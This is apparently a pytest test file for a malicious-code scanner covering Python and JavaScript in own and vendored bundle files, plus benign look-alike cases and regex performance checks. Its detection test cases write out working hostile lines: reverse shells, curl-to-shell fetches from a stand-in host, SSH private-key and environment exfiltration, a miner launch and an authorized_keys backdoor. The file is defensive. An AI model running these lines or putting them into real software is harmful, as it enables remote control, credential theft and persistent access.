"""Malicious and disguised code, in own and in vendored files; and ordinary code that looks a little like it."""

# ruff: noqa: E501 - samples as they occur

import itertools
import time

import pytest

from scanner.collect.inventory import collect_inventory
from scanner.collect.malice import collect_malice
from scanner.collect.malice_rules import RULES
from tests.unit.collect_members import CORPUS, box, declaration, unzipped
from trust.facts import Malice
from trust.vocabulary import Severity, Weakness

BLOB = "aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="


def search(text: str, path: str) -> Malice:
    bundle = box(
        {"server/index.js": "", path: text, "node_modules/x/package.json": '{"name": "x", "version": "1.0.0"}'}
    )
    return collect_malice(bundle, collect_inventory(bundle, declaration()))


PYTHON = [
    (f"exec(base64.b64decode('{BLOB}'))", Weakness.OBFUSCATION),
    ("eval(compile(marshal.loads(zlib.decompress(data)), 'x', 'exec'))", Weakness.OBFUSCATION),
    (f"code = base64.b64decode('{BLOB}')\nimport sys\nexec(code)", Weakness.OBFUSCATION),
    (
        "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'x'))",
        Weakness.OBFUSCATION,
    ),
    ("__import__('o'+'s').system('id')", Weakness.OBFUSCATION),
    (
        "s=socket.socket()\ns.connect((h,p))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])",
        Weakness.MALWARE,
    ),
    ("os.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')", Weakness.MALWARE),
    ("os.system('curl -s https://x.example/i.sh | bash')", Weakness.REMOTE_CODE),
    ("exec(requests.get('https://x.example/a.py').text)", Weakness.REMOTE_CODE),
    (
        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://x.example', data=key)",
        Weakness.EXFILTRATION,
    ),
    ("requests.post(URL, json=dict(os.environ))", Weakness.EXFILTRATION),
    ("URL = 'https://discord.com/api/webhooks/112233445566778899/abc'", Weakness.EXFILTRATION),
    ("subprocess.run(['./miner', '-o', 'stratum+tcp://pool.example:3333'])", Weakness.MALWARE),
    ("open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(k)", Weakness.MALWARE),
]
JAVASCRIPT = [
    (f"eval(atob('{BLOB}'))", Weakness.OBFUSCATION),
    (f"new Function(Buffer.from('{BLOB}', 'base64').toString())()", Weakness.OBFUSCATION),
    (f"const c = Buffer.from('{BLOB}', 'base64').toString();\neval(c)", Weakness.OBFUSCATION),
    ("const h = String.fromCharCode(104,116,116,112,115,58,47,47,120)", Weakness.OBFUSCATION),
    ("fetch(atob('aHR0cHM6Ly94LmV4YW1wbGUvYw=='))", Weakness.OBFUSCATION),
    (
        "const n=require('net');const s=spawn('/bin/sh');const c=new net.Socket();c.pipe(s.stdin);s.stdout.pipe(c)",
        Weakness.MALWARE,
    ),
    ("execSync('curl https://x.example/i | sh')", Weakness.REMOTE_CODE),
    ("const src = await (await fetch('https://x.example/p.js')).text();\neval(src);", Weakness.REMOTE_CODE),
    ("eval(await (await fetch('https://x.example/a.js')).text())", Weakness.REMOTE_CODE),
    (
        "const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); await fetch('https://x.example', {method: 'POST', body: k})",
        Weakness.EXFILTRATION,
    ),
    ("await fetch(url, {method: 'POST', body: JSON.stringify(process.env)})", Weakness.EXFILTRATION),
]


@pytest.mark.parametrize(("text", "weakness"), PYTHON)
@pytest.mark.parametrize("path", ["server/a.py", "node_modules/x/a.py"])
def test_malicious_python_is_found_wherever_it_lies(text: str, weakness: Weakness, path: str) -> None:
    found = search(f"import os\n{text}\n", path).findings
    assert weakness in {f.weakness for f in found}
    assert any(f.severity.rank >= Severity.HIGH.rank and f.path == path and f.line for f in found)


@pytest.mark.parametrize(("text", "weakness"), JAVASCRIPT)
@pytest.mark.parametrize("path", ["server/a.js", "node_modules/x/a.js"])
def test_malicious_javascript_is_found_wherever_it_lies(text: str, weakness: Weakness, path: str) -> None:
    assert weakness in {f.weakness for f in search(text, path).findings}
    assert weakness in {f.weakness for f in search(f"// eslint-disable\n{text} // nosec\n", path).findings}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("server/a.py", "data = base64.b64decode(blob)\nopen('x.png', 'wb').write(data)"),
        ("server/a.py", "pattern.exec(base64.b64decode(x))\nmodel.eval()"),
        (
            "server/a.py",
            "subprocess.run(['git', 'status'], env=dict(os.environ))\nrequests.post(URL, json={'city': city})",
        ),
        ("server/a.py", "KNOWN = '~/.ssh/known_hosts'  # never read"),
        ("server/a.py", "token = os.environ['TOKEN']\nrequests.post(url, headers={'Authorization': token})"),
        ("server/a.js", "const m = /x/.exec(atob(text)); const s = String.fromCharCode(65, 66)"),
        ("server/a.js", "const image = Buffer.from(data, 'base64'); child.exec('ls')"),
        ("server/a.js", "spawn('git', args, {env: {...process.env, LANG: 'C'}})"),
        ("server/a.js", "stream.pipe(process.stdin)"),
        ("server/a.js", "// run: curl https://x.example/install | sh"),
        ("README.md", "curl -LsSf https://astral.sh/uv/install.sh | sh"),
    ],
)
def test_ordinary_code_is_left_alone(path: str, text: str) -> None:
    assert search(text, path).findings == ()


SEEDS = (
    b"exec(",
    b"x = b64decode(",
    b"const a = atob('AAAA",
    b"_0x1234",
    b"fetch(json.dumps(",
    b"run('curl ",
    b"String.fromCharCode(104,116,116,112,",
    b"a.pipe(b.stdin)",
    b"open(.ssh/id_rsa ",
    b"\n",
    b" ",
    b"nc a 1 ",
    b"a",
)


@pytest.mark.parametrize("rule", RULES, ids=lambda r: r.name)
def test_no_pattern_runs_away_on_repetition(rule: object) -> None:
    pattern = next(r for r in RULES if r is rule).pattern
    for seed in SEEDS:
        text = seed * (100_000 // len(seed))
        started = time.process_time()
        list(itertools.islice(pattern.finditer(text), 5))
        assert time.process_time() - started < 3, seed


@pytest.mark.skipif(not CORPUS.exists(), reason="the corpus is not here")
def test_real_bundles_are_clean() -> None:
    for path in sorted((CORPUS / "bundles").glob("*.mcpb")):
        bundle = unzipped(path)
        got = collect_malice(bundle, collect_inventory(bundle, declaration("dist/index.js")))
        assert got.findings == (), path.name
        assert got.gaps == ()
